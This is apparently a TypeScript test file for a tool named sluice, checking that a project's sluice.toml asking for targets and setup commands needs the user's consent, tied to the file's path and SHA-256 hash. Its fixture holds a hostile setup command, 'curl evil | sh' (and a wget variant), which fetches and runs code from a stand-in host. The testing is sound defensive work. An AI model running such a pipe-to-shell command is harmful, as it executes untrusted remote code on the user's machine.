import {
  mkdirSync,
  mkdtempSync,
  readFileSync,
  realpathSync,
  rmSync,
  statSync,
  symlinkSync,
  writeFileSync
} from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import type { SluiceError } from '../../../shared/errors';
import { answerConsent } from '../answer-consent';
import { Consents, hashOf } from '../consents';
import type { Target } from '../target';
import { TargetBook } from '../target-book';

const EVIL = '[targets.evil]\nhost = "evil"\nsetup = ["curl evil | sh"]\n';

describe('consent for project files', () => {
  let directory: string;
  let project: string;
  let file: string;

  beforeEach(() => {
    directory = realpathSync(mkdtempSync(join(tmpdir(), 'sluice-consents-')));
    project = join(directory, 'project');
    file = join(project, 'sluice.toml');
    mkdirSync(project);
    writeFileSync(file, EVIL);
  });

  afterEach(() => {
    rmSync(directory, { recursive: true });
  });

  const consents = (): Consents => new Consents(join(directory, 'consents.json'));
  const find = (folder = project): Promise<Target> =>
    new TargetBook({
      sitePath: join(directory, 'site.toml'),
      userPath: join(directory, 'user.toml'),
      hereRoot: '/state/here',
      hasController: () => Promise.resolve(false),
      inAllocation: false,
      isAllowed: (path, sha256) => consents().isAllowed(path, sha256)
    }).find('evil', folder);
  const asked = async (folder = project): Promise<{ path: string; sha256: string }> => {
    const error = await find(folder).then(
      () => null,
      (fault: unknown) => fault as SluiceError
    );
    expect(error).toMatchObject({ code: 'project-consent' });
    const { path, sha256 } = error?.details ?? {};
    return { path: String(path), sha256: String(sha256) };
  };

  it('names the file, its bytes, and all that it asks for', async () => {
    await expect(find()).rejects.toMatchObject({
      code: 'project-consent',
      details: {
        path: file,
        sha256: hashOf(Buffer.from(EVIL)),
        keys: 'targets.evil.host, targets.evil.setup'
      }
    });
  });

  it('lasts for these bytes, and ends with the first that changes', async () => {
    answerConsent(await asked(), consents());
    expect(await find()).toMatchObject({ host: 'evil', setup: ['curl evil | sh'] });
    writeFileSync(file, `${EVIL} `);
    const again = await asked();
    answerConsent(again, consents());
    writeFileSync(file, EVIL);
    await asked();
  });

  it('is kept for the person alone', async () => {
    const before = process.umask(0);
    answerConsent(await asked(), consents());
    process.umask(before);
    const path = join(directory, 'consents.json');
    expect(statSync(path).mode & 0o777).toBe(0o600);
    writeFileSync(path, readFileSync(path, 'utf8').slice(0, -9));
    await asked();
  });

  it('is refused for bytes that are no longer there', async () => {
    const word = await asked();
    writeFileSync(file, EVIL.replace('curl', 'wget'));
    expect(() => answerConsent(word, consents())).toThrow(/which only you may allow/);
    writeFileSync(file, 'default = "here"\n');
    expect(() => answerConsent(word, consents())).toThrow(/asks for nothing any more/);
    rmSync(file);
    expect(() => answerConsent(word, consents())).toThrow(/There is no project file/);
  });

  it('is for the real file, and for no other with the same bytes', async () => {
    answerConsent(await asked(), consents());
    const copy = join(directory, 'copy');
    mkdirSync(copy);
    writeFileSync(join(copy, 'sluice.toml'), EVIL);
    expect((await asked(copy)).path).toBe(join(copy, 'sluice.toml'));
    const linked = join(directory, 'linked');
    symlinkSync(project, linked);
    expect(await find(linked)).toMatchObject({ host: 'evil' });
  });

  it('is for a project’s file, and for no other', () => {
    const path = join(directory, 'other.toml');
    writeFileSync(path, EVIL);
    const sha256 = hashOf(Buffer.from(EVIL));
    expect(() => answerConsent({ path, sha256 }, consents())).toThrow(/is no sluice\.toml/);
  });
});
